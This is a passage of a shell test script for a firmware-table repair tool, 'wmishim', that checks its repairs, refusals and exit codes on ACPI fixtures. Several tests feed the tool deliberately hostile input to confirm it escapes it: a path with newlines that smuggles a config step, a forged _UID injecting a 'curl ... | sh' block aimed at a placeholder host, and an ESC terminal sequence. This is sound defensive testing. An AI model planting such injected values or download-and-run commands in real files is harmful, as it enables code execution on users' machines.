"$tool" fix --kernel 7.3 "$fixtures/fix-same-id-a.aml" "$fixtures/fix-same-id-b.aml" \
	-o "$tmp/sameid" >"$tmp/sameid.out" 2>&1 || rc=$?
desc="two SSDTs of one signature and IDs, the repair in the second: left alone, named, why, nothing written, exit 3"
t sh -c "[ $rc -eq 3 ] && [ ! -e '$tmp/sameid' ] && ! grep -q '^repair' '$tmp/sameid.out' &&
	grep -q '^leave  WDG_ZERO_INSTANCES \\\\_SB_\\.WMI1 entry 0: its table, SSDT WMISHM FIXSAME ([^)]*fix-same-id-b\\.aml), is number 2 of the 2 tables of that signature and those OEM IDs (the first: [^)]*fix-same-id-a\\.aml): the kernel puts a patched copy in place of the first of them it installs (acpi_table_initrd_override(), drivers/acpi/tables\\.c)' '$tmp/sameid.out'"
# The same tables the other way round: the block's table is the first of
# its IDs, where the kernel puts the patched copy: repaired (and nothing
# said of the other: "... is not defined by this table" was, once).
rc=0
"$tool" fix --kernel 7.3 "$fixtures/fix-same-id-b.aml" "$fixtures/fix-same-id-a.aml" \
	-o "$tmp/sameid-first" >"$tmp/sameid-first.out" 2>&1 || rc=$?
desc="  the repair in the first of them: repaired, exit 0, nothing said of the other"
t sh -c "[ $rc -eq 0 ] && ! grep -q 'not defined by this table' '$tmp/sameid-first.out' &&
	grep -q '^repair WDG_ZERO_INSTANCES \\\\_SB_\\.WMI1 entry 0' '$tmp/sameid-first.out'"
# The _OSI repair patches every table that asks _OSI: here the second of
# the two (its ASUS010 hidden by "Windows 2009"): left alone the same.
rc=0
"$tool" fix --kernel 7.3 "$fixtures/fix-same-id-a.aml" "$fixtures/fix-same-id-osi.aml" \
	-o "$tmp/sameid-osi" >"$tmp/sameid-osi.out" 2>&1 || rc=$?
desc="  the _OSI repair of the second of them: left alone, why, nothing written, exit 3"
t sh -c "[ $rc -eq 3 ] && [ ! -e '$tmp/sameid-osi' ] &&
	grep -q '^leave  OSI_HIDDEN_DEVICE \\\\_SB_\\.ATKD: its table, SSDT WMISHM FIXSAME ([^)]*fix-same-id-osi\\.aml), is number 2 of the 2 ' '$tmp/sameid-osi.out'"
# try --with that fix (a DSDT beside them): the guest gets the tables as
# the machine's kernel takes them from the initrd (try's merge_fixed): the
# first firmware table of the IDs the patched copy (OEM revision 2), the
# second its own bytes (revision 1, the guest's copy FIXSAM02).  try stops
# at the guest's initramfs (no helper: exit 7); --keep keeps its tables.
"$tool" fix --kernel 7.3 "$fixtures/eeepc-vm-dsdt.aml" "$fixtures/fix-same-id-b.aml" \
	"$fixtures/fix-same-id-a.aml" -o "$tmp/sameid-dsdt" >"$tmp/sameid-dsdt.out" 2>&1
rc=0
WMISHIM_LIBEXECDIR=/nonexistent-libexec "$tool" try -q --kernel 7.3 \
	--kernel-image "$(dirname "$0")/cli/data/try-vmlinuz" --modules "$(dirname "$0")/cli/data/try-modules" \
	--with "$tmp/sameid-dsdt" --keep "$tmp/sameid-try" "$fixtures/eeepc-vm-dsdt.aml" \
	"$fixtures/fix-same-id-b.aml" "$fixtures/fix-same-id-a.aml" >"$tmp/sameid-try.out" 2>&1 || rc=$?
with=$tmp/sameid-try/with/tables
desc="  try --with it: the first is the patched table (FIXSAME rev 2), the second the other, as it was (rev 1, its copy FIXSAM02)"
t sh -c "[ $rc -eq 7 ] && [ \"\$(od -An -j24 -N1 -tu1 '$with/ssdt1.aml' | tr -d ' ')\" = 2 ] &&
	[ \"\$(od -An -j24 -N1 -tu1 '$with/ssdt2.aml' | tr -d ' ')\" = 1 ] &&
	[ \"\$(od -An -j16 -N8 -c '$with/ssdt2.aml' | tr -d ' ')\" = FIXSAM02 ] &&
	cmp -s -i 36 '$with/ssdt2.aml' '$fixtures/fix-same-id-a.aml'"

# A repair names the driver it gains, or is not made: a zero-instance
# block whose GUID no driver of the line binds or uses (the HP fleet's:
# a DSDT overridden for nothing) is left alone, and check calls it a
# warning (an error before, and fix repaired it, exit 0).
fix check-wdg-zero-instances nogain
desc="a zero-instance block no driver binds or uses: left alone, said, nothing written, exit 3"
t sh -c "[ \$(cat '$tmp/nogain.rc') -eq 3 ] && [ ! -e '$tmp/nogain' ] &&
	grep -q '^leave  WDG_ZERO_INSTANCES \\\\_SB_\\.WMI1 entry 0: no driver of Linux 7\\.3 binds or uses 5A5A2100-0000-4000-8000-000000000000 ' '$tmp/nogain.out'"
desc="  check: a warning, no driver loses anything, exit 0"
t sh -c "'$tool' check --kernel 7.3 '$fixtures/check-wdg-zero-instances.aml' >'$tmp/nogain.check' &&
	grep -q '^warning WDG_ZERO_INSTANCES .*; no driver of Linux 7\\.3 binds or uses its GUID, so no driver loses anything\$' '$tmp/nogain.check'"
# The ASUS management GUID, which no alias names: asus-wmi uses it (its
# code names it, scripts/kernel-data.sh's "uses" records) once eeepc-wmi
# or asus-nb-wmi is loaded.  With eeepc-wmi's event GUID on the machine
# (eeepc-broken-zero, above) the repair gains eeepc_wmi the block; without
# it nothing loads a user of the block: left alone.
desc="the ASUS management block, eeepc-wmi's event GUID there: gains: eeepc_wmi can use the block"
t grep -q '^	gains: eeepc_wmi can use the block (the GUID-based calls)$' "$tmp/zero.out"
{
	echo 'DefinitionBlock ("", "DSDT", 2, "WMISHM", "ASUSMGMT", 1) { Scope (\_SB) {'
	echo ' Device (AMW0) { Name (_HID, "PNP0C14") Name (_UID, Zero)'
	echo '  Name (_WDG, Buffer () { 0xD0, 0x5E, 0x84, 0x97, 0x6D, 0x4E, 0xDE, 0x11, 0x8A, 0x39,'
	echo '   0x08, 0x00, 0x20, 0x0C, 0x9A, 0x66, 0x42, 0x43, 0x00, 0x02 })'
	echo '  Method (WMBC, 3, Serialized) { Return (Zero) } } } }'
} >"$tmp/mgmt.asl"
desc="the ASUS management block alone (no GUID loads eeepc-wmi or asus-nb-wmi): left alone, said, exit 3"
t sh -c "iasl -p '$tmp/mgmt' '$tmp/mgmt.asl' >/dev/null 2>&1 &&
	{ '$tool' fix --kernel 7.3 '$tmp/mgmt.aml' -o '$tmp/mgmt.fix' >'$tmp/mgmt.out' 2>&1; [ \$? -eq 3 ]; } &&
	grep -q '^leave  WDG_ZERO_INSTANCES .*: only [a-z_]* uses 97845ED0-4E6D-11DE-8A39-0800200C9A66 (in its code), and no device of this machine loads it' '$tmp/mgmt.out'"
desc="  inspect: eeepc_wmi and asus_nb_wmi name it, no device here loads them"
t sh -c "'$tool' inspect --kernel 6.1 '$tmp/mgmt.aml' | grep -qx '	driver: none in Linux 6\\.1\\.[^ ]*; asus_nb_wmi, eeepc_wmi name it too, loaded by no device here'"

# A data block of no instances is a collection with nothing in it, an
# answer hp-bioscfg takes (it counts its settings of each kind with
# wmi_instance_count()): HP's firmware gives 0 for a kind it has none of,
# and the fleet's HP machines got a fix giving it one (8232DE3D-..., used
# by hp_bioscfg, loaded for 5FB7F034-...): left alone.
{
	echo 'DefinitionBlock ("", "DSDT", 2, "WMISHM", "HPBIOSCF", 1) { Scope (\_SB) {'
	echo ' Device (WMID) { Name (_HID, "PNP0C14") Name (_UID, Zero)'
	echo '  Name (_WDG, Buffer () { 0x3D, 0xDE, 0x32, 0x82, 0x3D, 0x66, 0x27, 0x43, 0xA8, 0xF4,'
	echo '   0xE2, 0x93, 0xAD, 0xB9, 0xBF, 0x05, 0x42, 0x4A, 0x00, 0x00,'
	echo '   0x34, 0xF0, 0xB7, 0x5F, 0x63, 0x2C, 0xE9, 0x45, 0xBE, 0x91,'
	echo '   0x3D, 0x44, 0xE2, 0xC7, 0x07, 0xE4, 0x80, 0x00, 0x01, 0x08 })'
	echo '  Method (WQBJ, 1, Serialized) { Return (Zero) }'
	echo '  Method (_WED, 1, Serialized) { Return (Zero) } } } }'
} >"$tmp/hpdata.asl"
desc="a zero-instance data block hp_bioscfg uses (it counts instances): left alone, said, exit 3 (repaired, exit 0 before)"
t sh -c "iasl -p '$tmp/hpdata' '$tmp/hpdata.asl' >/dev/null 2>&1 &&
	{ '$tool' fix --kernel 7.3 '$tmp/hpdata.aml' -o '$tmp/hpdata.fix' >'$tmp/hpdata.out' 2>&1; [ \$? -eq 3 ]; } &&
	grep -q '^leave  WDG_ZERO_INSTANCES .*: a data block of no instances is a collection with nothing in it' '$tmp/hpdata.out'"

# A zero-instance block in a device whose path is longer than a rename
# takes, and another in \_SB.WMI2: the deep one left alone, said, the other
# repaired (the whole fix was exit 2 before, every repair lost).
fix fix-deep-zero deep
desc="a device path too long to rename: that repair left alone, the other made, exit 0"
t sh -c "[ \$(cat '$tmp/deep.rc') -eq 0 ] &&
	grep -q '^leave  WDG_ZERO_INSTANCES \\\\_SB_\\.D001\\..*WMID entry 0: its path is 140 characters, and a rename takes a _WDG.s of 122 at most' '$tmp/deep.out' &&
	grep -q '^repair WDG_ZERO_INSTANCES \\\\_SB_\\.WMI2 entry 0' '$tmp/deep.out'"

# scripts/fleet-fix.sh, which makes docs/fixing.md's figures of real
# firmware: its counts on three fixtures (a fix written, one left alone for
# its cost, one with nothing to repair).
sh "$(dirname "$0")/../scripts/fleet-fix.sh" "$tool" 7.3 "$tmp/fleet" "$fixtures/eeepc-1201nl.aml" \
	"$fixtures/fix-osi-cost.aml" "$fixtures/check-clean.aml" >"$tmp/fleet.out" 2>&1
desc="scripts/fleet-fix.sh: 3 machines, 1 fix written (OSI_HIDDEN_DEVICE), 2 nothing, 1 of those for its cost"
t lines "$tmp/fleet.out" '^machines: 3$' '^fix written, every repaired finding gone \(exit 0\): 1$' \
	'^nothing written \(exit 3\): 2$' '^  of those, a repair left alone for what it would cost: 1$' \
	'^ +1 OSI_HIDDEN_DEVICE$'

# --only and --skip.
fix eeepc-broken-zero only --only WDG_ZERO_INSTANCES
desc="--only WDG_ZERO_INSTANCES: the _OSI finding left alone, not asked for"
t lines "$tmp/only.out" '^leave  OSI_HIDDEN_DEVICE .*: not asked for'
desc="  and enable.conf has no osi-fix step"
t no grep -q '^osi-fix' "$tmp/only/enable.conf"
fix eeepc-broken-zero skip --skip WDG_ZERO_INSTANCES
desc="--skip WDG_ZERO_INSTANCES: only the _OSI repair"
t is 'osi-fix "Windows 2009"' "$(grep -v -e '^#' -e '^firmware ' "$tmp/skip/enable.conf")"
fix eeepc-broken-zero badcode --only 'wdg zero'
desc="--only with what is not a code: exit 2, nothing written"
t sh -c "[ \$(cat '$tmp/badcode.rc') -eq 2 ] && [ ! -e '$tmp/badcode' ]"

# An event block whose _WED is in its device's parent scope (\_SB._WED):
# Linux asks the device alone, so fix gives it a _WED that forwards.
fix eeepc-vm-wed-dsdt wed
desc="_WED in the parent scope: NS_WED_MISSING repaired, exit 0, 1 of 1 gone"
t sh -c "[ \$(cat '$tmp/wed.rc') -eq 0 ] && grep -q '^1 of 1 repaired finding gone' '$tmp/wed.out' &&
	grep -q '^repair NS_WED_MISSING \\\\_SB_\\.AMW0 entry 2: .*firmware.s \\\\_SB_\\._WED (Arg0)' '$tmp/wed.out'"
desc="  enable.conf: add ssdt-wedfix.aml, the one step"
t is "add ssdt-wedfix.aml" "$(grep -v -e '^#' -e '^firmware ' "$tmp/wed/enable.conf")"
desc="  README.md: what changed, why, and the _WED in ASL with its comment"
t lines "$tmp/wed/README.md" 'What changed: a _WED in its scope that returns the firmware.s \\_SB_\._WED' \
	'ssdt-wedfix.aml' '^Scope \(\\_SB_\.AMW0\)$' \
	'^    Method \(_WED, 1, NotSerialized\)  // _WED: WMI event data, the firmware.s \\_SB_\._WED$' \
	'^        Return \(\\_SB_\._WED \(Arg0\)\)$'
desc="  fixed/: the DSDT as it was, and the _WED's SSDT"
t is "00-dsdt-eeevmwed.aml 01-ssdt-wedfix.aml" "$(cd "$tmp/wed/fixed" && echo *)"
desc="  in the fixed tables the event gets its data: _WED (0xD2) = 0x5D (before: no _WED)"
t sh -c "'$tool' call --kernel 7.3 '$tmp/wed/fixed' --guid ABBC0F72-8EA1-11D1-00A0-C90629100000 --event | grep -q 'ACPI result: Integer 0x5D' &&
	'$tool' call --kernel 7.3 '$fixtures/eeepc-vm-wed-dsdt.aml' --guid ABBC0F72-8EA1-11D1-00A0-C90629100000 --event | grep -q 'no _WED, none asked'"
desc="  check on them: no NS_WED_MISSING (on the firmware: one)"
t sh -c "'$tool' check --kernel 7.3 '$fixtures/eeepc-vm-wed-dsdt.aml' | grep -q '^error NS_WED_MISSING' &&
	{ '$tool' check --kernel 7.3 '$tmp/wed/fixed' >'$tmp/wed.check'; [ -s '$tmp/wed.check' ]; } &&
	! grep -q NS_WED_MISSING '$tmp/wed.check'"
rm -rf "$tmp/root"
cp -a "$base" "$tmp/root"
cp "$fixtures/eeepc-vm-wed-dsdt.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
desc="  enable DIR on a fake root of that firmware: the _WED's SSDT enabled, the DSDT untouched"
t sh -c "'$tool' enable --root '$tmp/root' '$tmp/wed' >/dev/null &&
	'$tool' status --root '$tmp/root' | grep -q '^enabled: wed: wed-ssdt-wedfix.aml$'"
desc="  the firmware and the enabled tables: no NS_WED_MISSING"
t sh -c "'$tool' check --kernel 7.3 '$tmp/root/sys/firmware/acpi/tables/DSDT' '$tmp/root/etc/wmishim/tables' >'$tmp/wed.enabled' &&
	[ -s '$tmp/wed.enabled' ] && ! grep -q NS_WED_MISSING '$tmp/wed.enabled'"
fix check-wed-ancestor ancestor
desc="the nearest ancestor's _WED forwarded; another WMI device's own and none at all left alone, exit 0"
t sh -c "[ \$(cat '$tmp/ancestor.rc') -eq 0 ] &&
	grep -q '^repair NS_WED_MISSING \\\\_SB_\\.PCI0\\.LPCB\\.WMI1 .*\\\\_SB_\\.PCI0\\.LPCB\\._WED (Arg0)' '$tmp/ancestor.out' &&
	grep -q '^leave  NS_WED_MISSING \\\\_SB_\\.WMI2\\.WMI3 .*is another WMI device.s own' '$tmp/ancestor.out' &&
	grep -q '^leave  NS_WED_MISSING \\\\_SB_\\.WMI5 .*: no _WED anywhere' '$tmp/ancestor.out'"
fix eeepc-broken-nowed nowed --skip OSI_HIDDEN_DEVICE
desc="no _WED anywhere (eeepc-broken-nowed): left alone, why said, exit 3, nothing written"
t sh -c "[ \$(cat '$tmp/nowed.rc') -eq 3 ] && [ ! -e '$tmp/nowed' ] &&
	grep -q '^leave  NS_WED_MISSING .*: no _WED anywhere the device.s event data could come from' '$tmp/nowed.out'"

# What fix cannot repair: left alone, said, nothing written.
fix check-clean clean
desc="nothing to repair: exit 3, nothing written, said"
t sh -c "[ \$(cat '$tmp/clean.rc') -eq 3 ] && [ ! -e '$tmp/clean' ] &&
	grep -q 'nothing to repair' '$tmp/clean.out'"
fix eeepc-broken-nowm nowm --skip OSI_HIDDEN_DEVICE
desc="a method that exists nowhere (NS_METHOD_MISSING): left alone, why said, exit 3"
t sh -c "[ \$(cat '$tmp/nowm.rc') -eq 3 ] &&
	grep -q '^leave  NS_METHOD_MISSING .*: the firmware has no such method' '$tmp/nowm.out'"

# What one instance would not repair, a _WDG with no whole entry: left
# alone, said (before: "repaired", exit 0 or 2).
fix fix-zero-nomethod nomethod
desc="a zero-instance block without its WMAA: left alone (one instance makes no device either), exit 3"
t sh -c "[ \$(cat '$tmp/nomethod.rc') -eq 3 ] &&
	grep -q '^leave  WDG_ZERO_INSTANCES .*: the block has no WMAA either' '$tmp/nomethod.out'"
fix fix-wdg-short short
desc="a _WDG of 7 bytes (WDG_LENGTH, no whole entry): left alone, exit 3"
t sh -c "[ \$(cat '$tmp/short.rc') -eq 3 ] && grep -q '^leave  WDG_LENGTH .*: Linux reads the whole entries' '$tmp/short.out'"
# A whole entry and stray bytes: the kernel drops them itself, and a table
# overridden for a clean _WDG would change nothing it sees (fix wrote one,
# exit 0, before).
fix fix-wdg-stray stray
desc="stray bytes after a whole entry: left alone (Linux drops them itself), nothing written, exit 3"
t sh -c "[ \$(cat '$tmp/stray.rc') -eq 3 ] && [ ! -e '$tmp/stray' ] &&
	grep -q '^leave  WDG_LENGTH \\\\_SB_\\.WMI1: Linux reads the whole entries and drops the stray bytes itself' '$tmp/stray.out'"

# A _WDG another table defines: that table renamed (before: exit 2).
rc=0
"$tool" fix --kernel 7.3 "$fixtures/fix-split-dsdt.aml" "$fixtures/fix-split-ssdt.aml" -o "$tmp/split" \
	>"$tmp/split.out" 2>&1 || rc=$?
desc="_WDG defined by an SSDT in the DSDT's device: repaired, exit 0, 1 of 1 gone"
t sh -c "[ $rc -eq 0 ] && grep -q '^1 of 1 repaired finding gone' '$tmp/split.out'"
desc="  the SSDT is the table renamed (OEM revision 0x2), the DSDT as it was (0x1)"
t sh -c "'$tool' call --kernel 7.3 '$tmp/split/fixed' --eval '\\_SB.WMI1.XWDG' >/dev/null &&
	cmp -s '$tmp/split/fixed/00-dsdt-fxsplitd.aml' '$fixtures/fix-split-dsdt.aml' &&
	! cmp -s '$tmp/split/fixed/01-ssdt-fxsplits.aml' '$fixtures/fix-split-ssdt.aml'"

# Names from outside: an input path with a line end cannot add a step to
# enable.conf (before: a live rename line); -o with a trailing slash; a
# name enable does not take.
mkdir -p "$tmp/in
rename \\_SB_.ATKD._STA=XSTA
#"
cp "$fixtures/eeepc-1201nl.aml" "$tmp/in
rename \\_SB_.ATKD._STA=XSTA
#/dsdt.aml"
rc=0
"$tool" fix --kernel 7.3 "$tmp/in
rename \\_SB_.ATKD._STA=XSTA
#/dsdt.aml" -o "$tmp/inj" >"$tmp/inj.out" 2>&1 || rc=$?
desc="an input path with line ends: enable.conf holds the one step, the path escaped in its comment"
t sh -c "[ $rc -eq 0 ] && [ \"\$(grep -v -e '^#' -e '^firmware ' '$tmp/inj/enable.conf')\" = 'osi-fix \"Windows 2009\"' ] &&
	grep -q 'in\\\\x0Arename' '$tmp/inj/enable.conf'"
mkdir "$tmp/slash"
rc=0
"$tool" fix --kernel 7.3 "$fixtures/eeepc-1201nl.aml" -o "$tmp/slash/" >"$tmp/slash.out" 2>&1 || rc=$?
desc="-o DIR/ (an empty directory, a trailing slash): written there, exit 0 (before: refused)"
t sh -c "[ $rc -eq 0 ] && [ -f '$tmp/slash/enable.conf' ] && [ ! -e '$tmp/slash.wmishim-new' ]"
rc=0
"$tool" fix --kernel 7.3 "$fixtures/eeepc-1201nl.aml" -o "$tmp/my fix" >"$tmp/space.out" 2>&1 || rc=$?
desc="-o 'my fix' (a name enable does not take): exit 2, refused before any work, nothing written"
t sh -c "[ $rc -eq 2 ] && [ ! -e '$tmp/my fix' ] && grep -q 'a name enable takes\\|one enable takes' '$tmp/space.out'"

# Firmware text where fix writes it: a _UID with line ends that forge a
# "## Try it, then enable it" section with a `curl ... | sh` block, and an
# OEM table ID with an ESC byte (before: both reached README.md as they
# were, the ESC in enable.conf's messages and enable's output too).
esc=$(printf '\033')
fix fix-forged-uid forged
desc="a forged _UID and an ESC in an OEM table ID: fix writes its directory, exit 0"
t is 0 "$(cat "$tmp/forged.rc")"
desc="  README.md has one \"## Try it, then enable it\", its own, and no line that starts with curl"
t sh -c "[ \$(grep -c '^## Try it, then enable it\$' '$tmp/forged/README.md') -eq 1 ] &&
	! grep -q '^curl' '$tmp/forged/README.md' && [ \$(grep -c '^\`\`\`' '$tmp/forged/README.md') -eq 2 ]"
desc="  the _UID is there, escaped, on its finding's line"
t grep -qF '_UID X\x0A\x0A## Try it, then enable it\x0A\x0A\x60\x60\x60sh\x0Acurl https://example.invalid/x | sh\x0A\x60\x60\x60\x0A is also' "$tmp/forged/README.md"
desc="  no ESC byte in README.md, enable.conf or fix's output; the OEM table ID escaped"
t sh -c "! grep -q '$esc' '$tmp/forged/README.md' '$tmp/forged/enable.conf' '$tmp/forged.out' &&
	grep -qF '[SSDT FX\\x1B\\x5B2J]' '$tmp/forged/README.md' &&
	grep -qF 'firmware SSDT WMISHM FX\\x1B\\x5B2J 0x1 ' '$tmp/forged/enable.conf'"
rm -rf "$tmp/root"
mkdir -p "$tmp/root/sys/firmware/acpi/tables"
cp "$fixtures/fix-forged-uid.aml" "$tmp/root/sys/firmware/acpi/tables/SSDT1"
cp "$fixtures/eeepc-1201nl.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
desc="  enable of it: the OEM table ID escaped in what it says, no ESC byte"
t sh -c "'$tool' enable --root '$tmp/root' '$tmp/forged' >'$tmp/forged.en' 2>&1 && ! grep -q '$esc' '$tmp/forged.en' &&
	grep -qF 'SSDT WMISHM FX\\x1B[2J: overrides the firmware' '$tmp/forged.en'"

# README.md's commands: a path with a space in single quotes; one with a
# line end, THIS_DIR and a word of why (never the line end).
mkdir -p "$tmp/my dir" "$tmp/line
end"
"$tool" fix --kernel 7.3 "$fixtures/eeepc-1201nl.aml" -o "$tmp/my dir/fix1" >/dev/null 2>&1
desc="README.md, DIR under a folder with a space: the path in single quotes"
t lines "$tmp/my dir/fix1/README.md" "^sudo wmishim enable '$real/my dir/fix1'  "
"$tool" fix --kernel 7.3 "$fixtures/eeepc-1201nl.aml" -o "$tmp/line
end/fix2" >/dev/null 2>&1
desc="README.md, DIR under a folder with a line end: THIS_DIR, said why, no line of the path"
t sh -c "grep -q '^sudo wmishim enable THIS_DIR  ' '$tmp/line
end/fix2/README.md' && grep -q '^THIS_DIR: this directory' '$tmp/line
end/fix2/README.md' && ! grep -q '^end/fix2' '$tmp/line
end/fix2/README.md'"

# -o NAME.aml: enable takes NAME.aml for a table file, never a directory;
# fix holds to enable's rule, one function (before: written, exit 0, and
# enable refused it).
rc=0
"$tool" fix --kernel 7.3 "$fixtures/eeepc-1201nl.aml" -o "$tmp/eeepc.aml" >"$tmp/aml.out" 2>&1 || rc=$?
desc="-o NAME.aml: exit 2, refused before any work with enable's rule, nothing written"
t sh -c "[ $rc -eq 2 ] && [ ! -e '$tmp/eeepc.aml' ] &&
	grep -q 'eeepc.aml: its name must be one enable takes: .*not ending in .aml (enable takes NAME.aml for a table file)' '$tmp/aml.out'"

# More devices a driver claims than the search looks at: check says so
# and still gives its WMI findings (before: exit 2, nothing but an error).
{
	echo 'DefinitionBlock ("", "DSDT", 2, "WMISHM", "MANYDEVS", 1) { Scope (\_SB) {'
	echo ' Device (WMI1) { Name (_HID, EisaId ("PNP0C14")) Name (_UID, One)'
	# (86CCFD48-..., intel_wmi_thunderbolt's GUID: an error, a driver loses its block)
	echo '  Name (_WDG, Buffer () { 0x48, 0xFD, 0xCC, 0x86, 0x5E, 0x20, 0x77, 0x4A, 0x9C, 0x48,'
	echo '   0x20, 0x21, 0xCB, 0xED, 0xE3, 0x41, 0x41, 0x41, 0x00, 0x02 })'
	echo '  Method (WMAA, 3, Serialized) { Return (Arg2) } }'
	i=0
	while [ $i -lt 4100 ]; do
		if [ $i -lt 4096 ]; then d=D$i; else d=E$((i - 4096)); fi
		printf ' Device (%s) { Name (_HID, "PNP0C50") Name (_STA, Zero) }\n' \
			"$(printf '%s' "$d" | awk '{ printf "%s%03X", substr($0, 1, 1), substr($0, 2) }')"
		i=$((i + 1))
	done
	echo '} }'
} >"$tmp/many.asl"
desc="4,100 claimed devices: check warns that it did not search, gives WDG_ZERO_INSTANCES, exits 1"
t sh -c "iasl -p '$tmp/many' '$tmp/many.asl' >/dev/null 2>&1 &&
	{ '$tool' check --kernel 7.3 '$tmp/many.aml' >'$tmp/many.out' 2>'$tmp/many.err'; [ \$? -eq 1 ]; } &&
	grep -q '^error WDG_ZERO_INSTANCES' '$tmp/many.out' && grep -q 'no search for devices _OSI hides' '$tmp/many.err'"

# 100 devices whose _WDG loops (While (One), ACPICA's loop timeout each
# time), beside a block to repair: a loop costs real time at each
# evaluation and fix loads the tables four times, so every repair was lost
# to the guard's 120 s limit (exit 2, "stopped at the time limit").  A
# method of the same AML that looped in an earlier load of the run is taken
# as looping, said.  The build without sanitizers (ASan's takes seconds a
# loop: the first load alone would pass the limit).
{
	echo 'DefinitionBlock ("", "DSDT", 2, "WMISHM", "LOOPWDG", 1) { Scope (\_SB) {'
	echo ' Device (WMI1) { Name (_HID, EisaId ("PNP0C14")) Name (_UID, One)'
	echo '  Name (_WDG, Buffer () { 0x48, 0xFD, 0xCC, 0x86, 0x5E, 0x20, 0x77, 0x4A, 0x9C, 0x48,'
	echo '   0x20, 0x21, 0xCB, 0xED, 0xE3, 0x41, 0x41, 0x41, 0x00, 0x02 })'
	echo '  Method (WMAA, 3, Serialized) { Return (Arg2) } }'
	i=1
	while [ $i -le 100 ]; do
		printf ' Device (L%03X) { Name (_HID, EisaId ("PNP0C14")) Name (_UID, %d)\n' $i $((i + 1))
		printf '  Method (_WDG, 0, Serialized) { While (One) { } } }\n'
		i=$((i + 1))
	done
	echo '} }'
} >"$tmp/loops.asl"
if [ -n "$plain" ]; then
	rc=0
	iasl -p "$tmp/loops" "$tmp/loops.asl" >/dev/null 2>&1 &&
		"$plain" fix --kernel 7.3 "$tmp/loops.aml" -o "$tmp/loops" >"$tmp/loops.out" 2>"$tmp/loops.err" || rc=$?
	desc="100 looping _WDGs beside a block to repair: repaired, exit 0, not stopped at the time limit"
	t sh -c "[ $rc -eq 0 ] && grep -qx '1 of 1 repaired finding gone' '$tmp/loops.out' &&
		! grep -q 'time limit' '$tmp/loops.err'"
	desc="  each looping device an error left alone; a later load takes it as looping, said"
	t sh -c "[ \$(grep -c '^leave  NS_WDG_NOT_BUFFER \\\\_SB_\\.L0' '$tmp/loops.out') -eq 100 ] &&
		grep -q 'L064._WDG: looped in an earlier load of this run (AE_AML_LOOP_TIMEOUT): taken as looping' '$tmp/loops.err'"
else
	skip_point "100 looping _WDGs beside a block to repair" "no build without sanitizers given"
fi

# Refusals: a directory that is not empty, a parent that does not exist.
mkdir "$tmp/full"
echo mine >"$tmp/full/notes"
fix eeepc-1201nl full
desc="-o DIR not empty: exit 2, its file untouched, nothing added beside it"
t sh -c "[ \$(cat '$tmp/full.rc') -eq 2 ] && [ \"\$(cat '$tmp/full/notes')\" = mine ] &&
	[ \"\$(ls '$tmp/full')\" = notes ] && [ -z \"\$(ls -d '$tmp'/full.* 2>/dev/null | grep -v 'full\\.\\(out\\|rc\\)$')\" ]"
rc=0
"$tool" fix --kernel 7.3 "$fixtures/eeepc-1201nl.aml" -o "$tmp/missing/deeper" >"$tmp/deeper.out" 2>&1 || rc=$?
desc="-o DIR under a folder that does not exist: exit 2, nothing made"
t sh -c "[ $rc -eq 2 ] && [ ! -e '$tmp/missing' ]"
# An output error (a full disk: the Nth file's write made to fail) is not
# the input's: exit 5 (it was 2, "unusable input"), said, nothing left.
for n in 1 3; do
	rc=0
	WMISHIM_TEST_FAIL_WRITE=$n "$tool" fix --kernel 7.3 "$fixtures/eeepc-1201nl.aml" -o "$tmp/nospace$n" \
		>"$tmp/nospace$n.out" 2>&1 || rc=$?
	desc="the write of file $n fails: exit 5, 'cannot write' said, no DIR and nothing beside it"
	t sh -c "[ $rc -eq 5 ] && grep -q 'fix: cannot write .*failure injected' '$tmp/nospace$n.out' &&
		[ -z \"\$(ls -d '$tmp'/nospace$n* | grep -v 'nospace$n\.out\$')\" ]"
done
rc=0
"$tool" fix --kernel 7.3 "$fixtures/eeepc-1201nl.aml" >"$tmp/noout" 2>&1 || rc=$?
desc="no -o: exit 2, said"
t sh -c "[ $rc -eq 2 ] && grep -q -- '-o DIR' '$tmp/noout'"

# fix --try on a live root whose firmware has 17 events to repair: try's
# command line holds the first 16 (the most try fires) and every word of
# --kernel, --live, --root and --with; it overflowed its array by two words
# before (the sanitizer build aborted).  No helpers: try ends at once.
cp -a "$base" "$tmp/manyroot" && cp "$fixtures/fix-wed-many.aml" "$tmp/manyroot/sys/firmware/acpi/tables/SSDT1"
# ... and a machine in the kernel's DMI table, booted with acpi_osi=: try
# is given both (--dmi, --append), its prediction says them.
mkdir -p "$tmp/manyroot/sys/class/dmi/id"
echo 'ASUSTeK Computer Inc.' >"$tmp/manyroot/sys/class/dmi/id/sys_vendor"
echo 'K50IJ' >"$tmp/manyroot/sys/class/dmi/id/product_name"
echo 'ro "acpi_osi=!Windows 2012" quiet' >"$tmp/manyroot/proc/cmdline"
mkdir -p "$tmp/nolibexec"
rc=0
WMISHIM_LIBEXECDIR="$tmp/nolibexec" "$tool" fix --try --live --root "$tmp/manyroot" --kernel 7.3 \
	-o "$tmp/many" >"$tmp/many.out" 2>&1 || rc=$?
desc="fix --try --live --root, 17 repaired events: try run with the first 16, the rest said; try failed (no helpers): exit 4"
t sh -c "[ $rc -eq 4 ] && ! grep -q Sanitizer '$tmp/many.out' &&
	[ \$(grep -c '^repair NS_WED_MISSING .*WMIE entry' '$tmp/many.out') -eq 17 ] &&
	grep -q '^wmishim try --with $tmp/many: the firmware booted without and with the fix, the repaired events fired' '$tmp/many.out' &&
	grep -q '^(the first 16 of the 17 repaired events: try fires 16 at most)' '$tmp/many.out'"
desc="fix --try --live: try's guest given the machine's DMI strings and acpi_osi= (its prediction says the quirk and the parameter)"
t sh -c "[ \$(grep -c '^wmishim: note: DMI quirk of Linux 7.3: ASUS K50IJ ' '$tmp/many.out') -ge 2 ] &&
	grep -q '^wmishim: note: acpi_osi=\"!Windows 2012\" of /proc/cmdline: ' '$tmp/many.out' &&
	grep -q '^wmishim: note: acpi_osi=\"!Windows 2012\" of --append: _OSI (\"Windows 2012\") false' '$tmp/many.out'"

# The record of the gains (gains) and try's verdict on it: the Eee PC
# look-alike with an _OSI-hidden ASUS010 and a block of no instances,
# booted by a stand-in guest (tests/cli/data/try-verdict: the console of
# Debian's 7.3 booting it without and with this fix).
data=$(cd "$(dirname "$0")/cli/data" && pwd)
fix eeepc-vm-fix-dsdt vgain
desc="gains: the record, format 1, a line a repair: its code, device, the ID or GUID, the modules"
t lines "$tmp/vgain/gains" '^wmishim-gains 1$' \
	'^gain WDG_ZERO_INSTANCES \\_SB_\.AMW0 wmi 97845ED0-4E6D-11DE-8A39-0800200C9A66 - -$' \
